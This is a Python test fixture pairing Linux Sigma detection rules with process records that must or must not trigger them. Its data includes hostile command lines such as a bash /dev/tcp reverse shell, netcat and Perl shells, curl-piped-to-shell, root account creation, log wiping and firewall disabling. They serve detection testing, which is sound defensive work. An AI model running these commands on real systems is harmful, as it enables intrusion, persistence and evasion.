# SPDX-License-Identifier: Apache-2.0
"""What the rules of tests/rules/sigma mean, by hand: title -> records that it must hit, records that it must not (near misses)."""
from __future__ import annotations

from typing import Any

from rules_support import exec_record as run

Truth = dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]]
SH = ["sh", "-c"]
TRUTH: Truth = {
    "Bash Interactive Shell To A TCP Device": (
        [run(["bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"], "/usr/bin/bash"), run("BASH -c /DEV/UDP/1", "/opt/BASH")],
        [run("sh -c /dev/tcp/1", "/bin/sh"), run("bash -c /dev/tcpdump", "/bin/bash"), run("bash /dev/tcp/x", "/bin/rbash")]),
    "Python One Liner Opens A Reverse Shell": (
        [run(["python3", "-c", "import socket,subprocess;s.connect(('1',2))"]), run("x -c socket connect( dup2", "/opt/python3.11")],
        [run(["python3", "-c", "import socket;s.connect(1)"]), run("x -c socket connect( dup2", "/opt/python3.11-config"),
         run("x -c socket connect( dup2", "/usr/bin/PYTHON3")]),       # a regex minds case
    "Perl Reverse Shell With Socket Module": (
        [run(["perl", "-e", "use Socket;$i=1;exec(\"/bin/sh -i\");"]), run("perl -e use  Socket; x exec /bin/bash")],
        [run("perl -e use Socket; print 1"), run("perl -e use socket; exec(/bin/sh)"), run("ruby -e use Socket; exec(/bin/sh)")]),
    "Netcat Hands Out A Shell": (
        [run("nc -e /bin/sh 10.0.0.1 1"), run("ncat 10.0.0.1 1 /bin/bash"), run("NC 1 2 -C x", "/usr/bin/nc")],
        [run("nc -l 4444"), run("nc -e x --help"), run("rsync -e ssh /bin/sh")]),
    "Download Piped Straight Into A Shell": (
        [run([*SH, "curl http://x | sh"]), run([*SH, "wget -qO- x |sudo /bin/bash"])],
        [run([*SH, "curl http://x | shasum"]), run([*SH, "cat x | sh"]), run("curl http://x -o sh")]),
    "Nohup Starts A Program Below Tmp": (
        [run("nohup /tmp/x"), run("nohup nice /dev/shm/y &")], [run("nohup /opt/tmp/x"), run("/tmp/nohup", "/tmp/nohup")]),
    "Program Runs Out Of A World Writable Directory": (
        [run("/tmp/x"), run("x", "/dev/shm/a/b"), run("/TMP/x", "/TMP/x")],
        [run("/tmp/x", parent_exe="/usr/bin/make"), run("/var/tmpfiles/x"), run("x /tmp/", "/bin/x")]),
    "Hidden Program Is Started": (
        [run("/home/u/.x"), run("/home/u/.vim/x")],
        [run("/home/u/.local/bin/x"), run("/home/u/.vscode-server/x"), run("/home/a/b/.cargo/x"), run("x ./.y")]),
    "Web Server Starts A Shell": (
        [run("sh", parent_exe="/usr/sbin/nginx"), run("id", parent_exe="/usr/sbin/php-fpm8.2"),
         run("bash", parent_exe="/usr/bin/jre", parent_args=["java", "-Dx=Tomcat"])],
        [run("sh"), run("ls", parent_exe="/usr/sbin/nginx"), run("bash", parent_args=["java"])]),
    "Awk Spawns A Shell": (
        [run(["gawk", "BEGIN {system(\"/bin/sh\")}"]), run(["awk", "BEGIN {system(\"/bin/bash\")}"])],
        [run(["awk", "BEGIN {system(\"/bin/ls\")}"]), run(["ggawk", "x"]), run(["mawk", "print"])]),
    "Base64 Decodes On The Command Line": ([run("base64 -d x"), run("base64 --decode")], [run("base64 x"), run("base32 -d")]),
    "Command Line Carries A Shell Name In Base64": (
        # base64 of "/bin/bash", " /bin/sh x" and "xx/bin/sh", by coreutils
        [run("echo L2Jpbi9iYXNo"), run("echo IC9iaW4vc2ggeA=="), run("echo eHgvYmluL3No")], [run("echo L2Jpbi9scw=="), run("echo /bin/sh")]),
    "Echo Of A Whole Base64 Word": ([run("echo aWQ=")], [run("echo aWQ= x"), run("echo id")]),
    "Wide Base64 For A Foreign Interpreter": (
        # base64 of "IEX" in UTF-16LE at its three places
        [run("pwsh SQBFAFgA"), run("pwsh eEkARQBYAA=="), run("pwsh eHhJAEUAWAA=")], [run("pwsh IEX"), run("sh SQBFAFgA", "/bin/sh")]),
    "PowerShell On Linux Encoded Command In Any Dash": (
        [run("pwsh -enc x"), run("pwsh /ENC x"), run("pwsh \u2013enc x")], [run("pwsh --enc x"), run("pwsh -encoding x")]),
    "Hexadecimal Escapes Printed To A Shell": (
        [run(r"printf \x2f\x62\x69\x6E"), run(r"echo -e \X2F\x62\x69\x6e")], [run(r"printf \x2f\x62\x69"), run("printf x2fx62x69x6e")]),
    "Literal Question Mark And Star In Arguments": (
        [run("cat /abc/bash?"), run("ls **/passwd")], [run("cat /abc/bashx"), run("cat /etc/passwd"), run("cat /ab/bash?")]),
    "Backslash At The End Of A Word": ([run("sh c\\url x")], [run("sh curl x"), run("sh c\\\\url x")]),
    "Crontab Is Replaced From A File Or Stdin": ([run("crontab x"), run("crontab -")], [run("crontab -l"), run("crontab -u a -e")]),
    "At Job Scheduled": ([run("at now"), run("batch")], [run("cat now"), run("atd")]),
    "User Added With Root Id": (
        [run("useradd -u 0 -o x"), run("adduser --uid=0"), run("useradd --uid 0")], [run("useradd -u 01"), run("useradd -u 1000 x"), run("useradd x")]),
    "Account Joins The Sudo Group": (
        [run("usermod -aG sudo u"), run("gpasswd -a u sudo")], [run("usermod -aG video u"), run("gpasswd -d u sudo"), run("gpasswd -a u adm")]),
    "Systemd Unit Enabled By An Unusual Parent": (
        [run("systemctl enable x"), run("systemctl daemon-reload", parent_exe="/bin/sh")],
        [run("systemctl enable x", parent_exe="/usr/bin/dpkg"), run("systemctl enable x", parent_exe=""), run("systemctl status x")]),
    "Authorized Keys Written By Echo Or Tee": (
        [run("tee -a /root/.ssh/authorized_keys"), run([*SH, "cat k >> ~/.ssh/authorized_keys"])],
        [run("cat /root/.ssh/authorized_keys"), run("tee /root/.ssh/known_hosts")]),
    "Shell Profile Edited From The Command Line": (
        [run("tee /root/.bashrc"), run("sed -i s/a/b/ /etc/profile.d/x.sh")],
        [run("tee /root/.bashrc.bak"), run("cat /root/.bashrc"), run("tee /etc/profile.d/x.csh")]),
    "Preloaded Library In The Environment Of A Command": (
        [run("env LD_PRELOAD=/x.so ls"), run([*SH, "echo /x > /etc/ld.so.preload"])], [run("ls LD_PRELOAD=/x"), run("env A=1 ls")]),
    "Set User Id Bit By Chmod": (
        [run("chmod u+s x"), run("chmod 4755 x"), run("chmod 06755 x")], [run("chmod 755 x"), run("chmod +x 4755"), run("chown 4755 x")]),
    "Capability Given To An Interpreter": ([run("setcap cap_setuid+ep x")], [run("setcap cap_net_raw+ep x"), run("setcap cap_setuid=i x")]),
    "Sudoers File Edited Without Visudo": (
        [run("vi /etc/sudoers"), run("tee /etc/sudoers.d/x")], [run("visudo -f /etc/sudoers"), run("stat /etc/sudoers"), run("vi /etc/passwd")]),
    "Root Runs A Compiler": ([run("gcc x.c", uid=0), run("tcc", uid=0)], [run("gcc x.c"), run("ld", uid=0)]),
    "Low User Id Runs A Shell": ([run("sh", uid=33), run("bash", uid=48)], [run("sh", uid=34), run("SH", "/bin/SH", uid=33), run("ls", uid=33)]),
    "Sudo With A Negative User Id": ([run("sudo -u#-1 id"), run("sudo -u #-1 id")], [run("sudo -u#1 id"), run("su -u#-1")]),
    "Container Started With All Privileges": (
        [run("docker run --privileged x"), run("podman run -v /:/host --pid=host x")],
        [run("docker exec --privileged x"), run("docker run -v /:/host x"), run("docker run x")]),
    "Nsenter Into The First Process": ([run("nsenter -t 1 -m"), run("nsenter --target=1"), run("nsenter -t1")],
                                       [run("nsenter -t 12 -m"), run("nsenter -m")]),
    "History Of The Shell Is Cleared": (
        [run([*SH, "history -c"]), run("rm /root/.bash_history"), run([*SH, "export HISTSIZE=0"])], [run("cat /root/.bash_history"), run("rm x")]),
    "Log Files Are Removed Or Emptied": ([run("rm -rf /var/log/x")], [run("ls /var/log"), run("rm /var/lo"), run("rm x", cwd="/var/log")]),
    "Immutable Flag Taken Away": ([run("chattr -i x"), run("chattr -R -I x")], [run("chattr +i x"), run("chattr -i")]),
    "Firewall Switched Off": (
        [run("iptables -F"), run("iptables -t nat --flush", "/usr/sbin/xtables-nft-multi"), run("ufw --force disable"),
         run("systemctl stop firewalld")],
        [run("iptables -L"), run("ufw disable x"), run("systemctl stop nginx"), run("x -F", "/usr/sbin/xtables-multi")]),
    "Security Framework Set Permissive": ([run("setenforce 0"), run("sudo setenforce permissive"), run("aa-teardown")],
                                          [run("setenforce 1"), run("getenforce")]),
    "Kernel Module Inserted By Hand": (
        [run("insmod x.ko", uid=0)], [run("insmod x.ko"), run("modprobe x", uid=0, parent_exe="/usr/lib/systemd/systemd-modules-load")]),
    "Time Stamps Are Forged": ([run("touch -t 2001 x"), run("touch -R y x"), run("touch -acmr y x")], [run("touch x"), run("touch -a x")]),
    "Dmesg Ring Is Cleared": ([run("dmesg -c"), run("dmesg -C"), run("dmesg --CLEAR")], [run("dmesg -cx"), run("dmesg -c", "/bin/dmesg")]),
    "Password Hashes Are Read": ([run("cat /etc/shadow"), run("cp /etc/shadow- /x")], [run("cat /etc/passwd"), run("stat /etc/shadow")]),
    "Cloud Metadata Service Asked By A Command": (
        [run("curl http://169.254.169.254/latest"), run("wget x", cwd="/metadata.google.internal")],
        [run("curl http://169.254.169.25"), run("ping 169.254.169.254")]),
    "Tunnel Made By Ssh": ([run("ssh -L 80:x:80 h"), run("ssh -fND 1080 h"), run("ssh -R8080:x:1 h")], [run("ssh -l root h"), run("scp -L 80")]),
    "Child Of A Low Numbered Process": (
        [run("x y", ppid=1, pid=301), run("x", ppid=2, pid=9000)],
        [run("x", ppid=3, pid=301), run("x", ppid=1, pid=300), run([""], "/bin/x", ppid=1, pid=301)]),
}
